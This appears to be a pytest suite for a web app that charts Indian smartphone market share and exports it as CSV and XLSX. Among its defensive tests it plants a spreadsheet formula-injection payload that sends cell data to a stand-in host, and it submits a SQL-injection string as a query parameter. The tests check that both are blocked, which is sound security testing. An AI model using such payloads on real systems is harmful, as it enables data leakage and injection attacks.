"""Chart pages and downloads over HTTP, on the seeded data (SQLite and PostgreSQL)."""

import csv
import io
import zipfile

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlalchemy.orm import Session

from app.charts.query import CHART_IDS
from app.models import Vendor
from tests.helpers import release_revision


def test_rank_json_has_xiaomi_third_in_q4_2022(client: TestClient) -> None:
    response = client.get("/api/v1/charts/rank.json?source=canalys")
    assert response.status_code == 200 and response.headers["content-type"] == "application/json"
    body = response.json()
    assert body["title"] == "Xiaomi fell to third in Q4 2022 as Samsung took first place"
    xiaomi = next(r for r in body["data"] if r["vendor"] == "xiaomi" and r["quarter"] == "2022Q4")
    assert (xiaomi["rank"], xiaomi["shipments"], xiaomi["share_pct"]) == (3, 5_500_000, 17.0)
    trace = next(t for t in body["figure"]["data"] if t["name"] == "Xiaomi")
    assert trace["y"][trace["x"].index("Q4 2022")] == 3


@pytest.mark.parametrize("chart_id", CHART_IDS)
def test_every_chart_renders(client: TestClient, chart_id: str) -> None:
    page = client.get(f"/charts/{chart_id}")
    assert page.status_code == 200, page.text[:300]
    assert 'type="application/json" id="chart-data"' in page.text
    data = client.get(f"/api/v1/charts/{chart_id}.json").json()
    assert data["figure"]["data"], chart_id
    assert data["table"]["rows"], chart_id


def test_csv_download_bytes(client: TestClient, db: Session) -> None:
    response = client.get(
        "/api/v1/charts/rank.csv?source=canalys&vendors=xiaomi&from=2022Q4&to=2022Q4"
    )
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="sharetrack-rank-india-smartphones.csv"'
    )
    lines = response.content.decode().splitlines()
    assert lines[0] == (
        "source,market,category,segment,basis,vendor,vendor_name,quarter,shipments,share_pct,"
        "rank,yoy_growth_pct,status,released,derived,revision,source_url,shipments_url,share_url,"
        "rank_url,yoy_url"
    )
    page = "https://m.gsmarena.com/canalys_samsung_takes_first_place_in_india_during_q4_xiaomi_still_on_top_in_full_2022-amp-57258.php"
    assert lines[1] == (
        "canalys,india,smartphones,all,units,xiaomi,Xiaomi,2022Q4,5500000,17.0,3,-40.0,"
        f"preliminary,2023-01-19,,{release_revision(db, 'canalys', '2023-01-19')},"
        f"{page},{page},{page},{page},{page}"
    )
    assert len(lines) == 2


def workbook_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))


def test_xlsx_download_has_no_formulas(client: TestClient) -> None:
    xml = workbook_xml(client.get("/api/v1/charts/share.xlsx").content)
    assert "<f>" not in xml and "Xiaomi" in xml


def test_formula_looking_names_are_defused_in_downloads(client: TestClient, db: Session) -> None:
    """A vendor name that slipped past upload checks still cannot run in a spreadsheet."""
    db.execute(
        update(Vendor)
        .where(Vendor.slug == "xiaomi")
        .values(name='=HYPERLINK("http://x.example/?"&A1,"x")')
    )
    query = "source=canalys&vendors=xiaomi&from=2022Q4&to=2022Q4"
    rows = list(csv.reader(io.StringIO(client.get(f"/api/v1/charts/rank.csv?{query}").text)))
    assert rows[1][6] == '\'=HYPERLINK("http://x.example/?"&A1,"x")'
    assert rows[1][11] == "-40.0"  # a negative number stays a number
    xml = workbook_xml(client.get(f"/api/v1/charts/rank.xlsx?{query}").content)
    assert "<f>" not in xml
    assert """<t>'=HYPERLINK("http://x.example/?"&amp;A1,"x")</t>""" in xml


def test_group_view_counts_bbk_together(client: TestClient) -> None:
    body = client.get(
        "/api/v1/charts/share.json?by=group&source=canalys&from=2022Q4&to=2022Q4"
    ).json()
    names = {t["name"] for t in body["figure"]["data"]}
    assert "BBK Electronics" in names and "vivo" not in names
    bbk = next(r for r in body["data"] if r["vendor"] == "group:bbk")
    assert bbk["share_pct"] == 45.0  # vivo 20 + OPPO 17 + realme 8


@pytest.mark.parametrize(
    ("url", "status", "message"),
    [
        ("/api/v1/charts/pie.json", 404, "unknown chart 'pie'; charts: share, rank, shipments"),
        (
            "/api/v1/charts/rank.json?source=nielsen",
            404,
            "unknown source 'nielsen'; known: canalys",
        ),
        ("/api/v1/charts/rank.json?vendors=nokiax", 404, "unknown vendor 'nokiax'"),
        (
            "/api/v1/charts/rank.json?from=2023Q1&to=2022Q1",
            422,
            "'from' (2023Q1) is after 'to' (2022Q1)",
        ),
        ("/api/v1/charts/rank.json?from=2022Q9", 422, "quarter 9 does not exist"),
        (
            "/api/v1/charts/share.json?mode=pie",
            422,
            "mode 'pie' is not valid for the share chart; valid: lines, area100",
        ),
        ("/api/v1/charts/rank.json?as_of=r9999", 404, "revision r9999 does not exist"),
        ("/api/v1/charts/rank.json?vendors=' OR 1=1--", 422, "'vendors' must be a slug"),
    ],
)
def test_bad_queries_get_clear_errors(
    client: TestClient, url: str, status: int, message: str
) -> None:
    response = client.get(url)
    assert response.status_code == status
    assert message in response.json()["error"]


def test_html_error_page_is_readable(client: TestClient) -> None:
    response = client.get("/charts/rank?from=banana")
    assert response.status_code == 422 and "text/html" in response.headers["content-type"]
    assert "&#39;banana&#39; is not a quarter" in response.text


def test_observations_api_pages_and_csv(client: TestClient) -> None:
    body = client.get("/api/v1/observations?source=canalys&quarter=Q4 2022&limit=3").json()
    assert [r["vendor"] for r in body["items"]] == ["samsung", "vivo", "xiaomi"]
    assert body["next"].endswith("offset=3&limit=3") or "offset=3" in body["next"]
    rest = client.get(body["next"]).json()
    assert [r["vendor"] for r in rest["items"]] == ["oppo", "realme", "others"]
    assert rest["next"] is None
    text = client.get("/api/v1/observations.csv?source=canalys&quarter=2022Q4").text
    assert [r["vendor"] for r in csv.DictReader(io.StringIO(text))] == [
        "samsung",
        "vivo",
        "xiaomi",
        "oppo",
        "realme",
        "others",
    ]


def test_overview_tells_the_story(client: TestClient) -> None:
    page = client.get("/")
    assert page.status_code == 200
    assert (
        "Samsung overtook Xiaomi to take first place in Q4 2022; Xiaomi fell to third" in page.text
    )
    assert page.headers["content-security-policy"].endswith("frame-ancestors 'self'")
    assert page.headers["x-content-type-options"] == "nosniff"


def test_health(client: TestClient) -> None:
    assert client.get("/healthz").json() == {"status": "ok"}
    assert client.get("/readyz").json() == {"status": "ok", "database": "ok"}


def test_tracker_comparison_credits_every_tracker(client: TestClient) -> None:
    page = client.get("/charts/sources?quarter=2022Q4")
    assert page.status_code == 200
    assert "Sources: Canalys, Counterpoint, IDC · sharetrack · data as of r" in page.text
    assert "Canalys, Counterpoint, IDC via sharetrack." in page.text  # the citation
    assert "trackers compared, Q4 2022. Data revision" in page.text
    body = client.get("/api/v1/charts/sources.json?quarter=2022Q4").json()
    assert "source=" not in body["query"]
    xiaomi = {r["source"]: r["share_pct"] for r in body["data"] if r["vendor"] == "xiaomi"}
    assert xiaomi == {"canalys": 17.0, "counterpoint": 18.0, "idc": 18.6}


def test_categories_follow_one_vendor(client: TestClient) -> None:
    body = client.get("/api/v1/charts/categories.json?vendor=xiaomi").json()
    assert body["title"].startswith("Xiaomi lately: ")
    categories = {r["category"] for r in body["data"]}
    assert {"smartphones", "smart-tvs", "audio"} <= categories


def test_control_characters_cannot_break_the_workbook(client: TestClient, db: Session) -> None:
    db.execute(update(Vendor).where(Vendor.slug == "xiaomi").values(name="Xiao\x07mi"))
    response = client.get("/api/v1/charts/rank.xlsx?source=canalys&vendors=xiaomi")
    assert response.status_code == 200
    assert "<t>Xiaomi</t>" in workbook_xml(response.content)
